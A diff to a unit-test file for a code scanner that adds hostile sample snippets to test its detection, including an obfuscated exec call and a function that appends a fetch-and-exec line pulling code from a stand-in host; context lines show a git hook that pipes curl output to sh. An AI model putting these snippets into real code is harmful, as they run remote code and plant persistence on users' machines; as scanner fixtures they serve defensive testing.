@@ -8,6 +8,9 @@ from budmodel_scanner.verdict import Verdict
 from tests.unit.budmodel_scanner.text_examination import at_most_cpu_seconds, rules_of, verdict_of_text
 
 NAMED_ELSEWHERE = """
+import os, zlib
+getattr(__builtins__ if isinstance(__builtins__, type(os)) else type('b', (), __builtins__), 'ex' + 'ec')(x, {})
+---
 class Base:
     kinds = ('a', 'subprocess', 'check_output')
     def __init_subclass__(cls, **k):
@@ -169,6 +172,11 @@ def f(): urllib.request.urlopen('https://x.invalid.net', data=t)
 def f():
     with open('.git/hooks/post-checkout', 'w') as o:
         o.write('#!/bin/sh\\ncurl https://x.invalid.net/a | sh\\n')
+---
+def f(name):
+    patch = '\\nimport urllib.request as u; exec(u.urlopen("https://x.invalid.net/p").read())\\n'
+    with open(name, 'a') as o:
+        o.write(patch)
 ---
 import requests_unixsocket
 s = requests_unixsocket.Session()
